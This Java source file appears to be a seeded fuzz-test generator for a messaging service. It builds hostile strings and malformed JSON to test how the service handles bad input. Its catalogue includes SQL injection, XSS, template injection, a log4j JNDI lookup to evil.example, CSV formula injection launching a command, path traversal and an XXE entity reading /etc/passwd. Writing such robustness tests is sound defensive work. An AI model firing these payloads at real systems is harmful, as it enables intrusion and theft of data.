package org.kunnafoni.hostile;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Hostile text from a seeded generator, so every run sends the same cases: control characters, NUL, bidi
 * overrides, lone surrogates, emoji sequences, combining storms, injection strings for SQL, HTML, templates, log4j
 * and CSV, numbers out of range, and long runs. Each string is a few pieces glued together.
 */
public final class Hostile {
    static final List<String> PIECES = List.of(
            "", " ", "\u0000", "a\u0000b", "\u0001\u0002\u0003\u0007\b\t\u000b\f\r\n\u001b[2J\u007f", "\u0085",
            "\u2028\u2029", "\u202Eevil\u202C", "\u200F\u200E\u061C", "\u200B\uFEFF\u2060", "\uFFFD", "\uFFFE\uFFFF",
            "🙏🏽", "👨‍👩‍👧‍👦", "🇲🇱", "\uD83D", "\uDE4F", "\uDE4F\uD83D", "e\u0301", "a" + "\u0301".repeat(200),
            "ɛɔɲŋ", "ⵉⵔⴰⵡⴰⵏ", "رجال مسلحون", "ߒߞߏ", "𞤀𞤣𞤤𞤢𞤥", "漢字", "İı", "ß", "ﬀ",
            "{{", "}}", "{{{x}}}", "{{#a}}{{/a}}", "{{>partial}}", "{{=<% %>=}}", "<%= 7*7 %>", "#{7*7}", "${7*7}",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "&lt;&#0;&amp",
            "' OR 1=1 --", "\"; DROP TABLE users; --", "'; SHUTDOWN; --", "${jndi:ldap://evil.example/a}",
            "%s%n%x%p", "%00", "%", "%G1", "+", "&", "=", "../../../../etc/passwd", "..\\..\\windows",
            "\r\nSet-Cookie: x=1", "=cmd|' /C calc'!A0", "@SUM(1+1)", "\"\"\"", ",,,", ";", "\\", "\\u0000",
            "NaN", "Infinity", "-0", "1e309", "-1e309", "4.9e-325", "9223372036854775808", "-9223372036854775809",
            "0x7fffffff", "STOP", "ARRET", "ABONNER gao fra", "AIDE", "STOPALL", "+22376123456", "whatsapp:+223",
            "null", "true", "[]", "{}", "{\"a\":", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>");

    private final Random random;

    public Hostile(long seed) {
        this.random = new Random(seed);
    }

    public Random random() {
        return random;
    }

    public int between(int min, int max) {
        return min + random.nextInt(max - min + 1);
    }

    public <T> T pick(List<T> items) {
        return items.get(random.nextInt(items.size()));
    }

    /** One to five pieces: catalogue entries, random code points from every plane, or a long run. */
    public String text() {
        StringBuilder out = new StringBuilder();
        int pieces = between(1, 5);
        for (int i = 0; i < pieces; i++) {
            switch (random.nextInt(6)) {
                case 0, 1, 2 -> out.append(pick(PIECES));
                case 3 -> out.append(codePoints(between(1, 40)));
                case 4 -> out.append(ascii(between(1, 30)));
                default -> out.append(pick(PIECES).isEmpty() ? "x" : pick(PIECES)).append(long_());
            }
        }
        return out.toString();
    }

    /** Text of exactly {@code length} UTF-16 units (may end in half a surrogate pair, on purpose). */
    public String ofLength(int length) {
        StringBuilder out = new StringBuilder(length + 8);
        while (out.length() < length) {
            out.append(text());
        }
        out.setLength(length);
        return out.toString();
    }

    private String long_() {
        return "A".repeat(pick(List.of(1, 100, 1600, 1601, 5000)));
    }

    public String codePoints(int count) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < count; i++) {
            int plane = random.nextInt(4);
            int cp = switch (plane) {
                case 0 -> random.nextInt(0x80);
                case 1 -> random.nextInt(0x10000);
                case 2 -> 0x10000 + random.nextInt(0x20000);
                default -> random.nextInt(0x110000);
            };
            out.appendCodePoint(cp);
        }
        return out.toString();
    }

    public String ascii(int count) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < count; i++) {
            out.append((char) random.nextInt(0x80));
        }
        return out.toString();
    }

    /** Bytes that are not valid UTF-8: stray continuation bytes, overlong forms, surrogates, truncated sequences. */
    public byte[] invalidUtf8() {
        List<byte[]> bad = List.of(new byte[]{(byte) 0x80}, new byte[]{(byte) 0xC0, (byte) 0xAF},
                new byte[]{(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[]{(byte) 0xF4, (byte) 0x90, 0, 0},
                new byte[]{(byte) 0xE2, (byte) 0x82}, new byte[]{(byte) 0xFF, (byte) 0xFE}, new byte[]{(byte) 0xC3, 0x28});
        List<Byte> out = new ArrayList<>();
        for (byte b : ascii(between(0, 5)).getBytes(StandardCharsets.UTF_8)) {
            out.add(b);
        }
        for (byte b : pick(bad)) {
            out.add(b);
        }
        byte[] bytes = new byte[out.size()];
        for (int i = 0; i < bytes.length; i++) {
            bytes[i] = out.get(i);
        }
        return bytes;
    }

    /** A JSON value of a hostile kind; {@code depth} bounds ordinary nesting (deep nesting is its own case). */
    public String jsonValue(int depth) {
        return switch (random.nextInt(depth > 0 ? 9 : 7)) {
            case 0 -> quote(text());
            case 1 -> pick(List.of("1e309", "-1e309", "9223372036854775808", "-0", "0.0000000000000000000001",
                    "123456789012345678901234567890", "1.7976931348623157e308", "4.9e-324", "0", "-1", "2147483648"));
            case 2 -> pick(List.of("true", "false", "null"));
            case 3 -> quote(pick(PIECES));
            case 4 -> quote(ofLength(pick(List.of(1, 129, 1601, 5000))));
            case 5 -> "\"" + pick(List.of("2026-13-45", "2026-11-30T25:61:00Z", "+999999-01-01", "P1000000D",
                    "9999999h", "-5m", "gao", "fra", "aired", "verified")) + "\"";
            case 6 -> "[]";
            case 7 -> "[" + jsonValue(depth - 1) + "," + jsonValue(depth - 1) + "]";
            default -> "{" + quote(text()) + ":" + jsonValue(depth - 1) + "}";
        };
    }

    /** A JSON object with the given field names (each maybe twice, maybe with a hostile value) and stray fields. */
    public String jsonObject(List<String> fields) {
        StringBuilder out = new StringBuilder("{");
        List<String> parts = new ArrayList<>();
        for (String field : fields) {
            if (random.nextInt(5) > 0) {
                parts.add(quote(field) + ":" + jsonValue(2));
            }
            if (random.nextInt(10) == 0) {
                parts.add(quote(field) + ":" + jsonValue(1)); // a duplicated key
            }
        }
        if (random.nextBoolean()) {
            parts.add(quote(text()) + ":" + jsonValue(2));
        }
        out.append(String.join(",", parts));
        return out.append("}").toString();
    }

    public static String quote(String text) {
        StringBuilder out = new StringBuilder("\"");
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            switch (c) {
                case '"' -> out.append("\\\"");
                case '\\' -> out.append("\\\\");
                default -> {
                    if (c < 0x20) {
                        out.append(String.format("\\u%04x", (int) c));
                    } else {
                        out.append(c);
                    }
                }
            }
        }
        return out.append('"').toString();
    }

    /** {@code levels} nested arrays or objects: a stack-depth attack on the JSON parser. */
    public static String deepJson(int levels, boolean objects) {
        StringBuilder out = new StringBuilder(levels * 6);
        for (int i = 0; i < levels; i++) {
            out.append(objects ? "{\"a\":" : "[");
        }
        out.append("1");
        for (int i = 0; i < levels; i++) {
            out.append(objects ? "}" : "]");
        }
        return out.toString();
    }
}
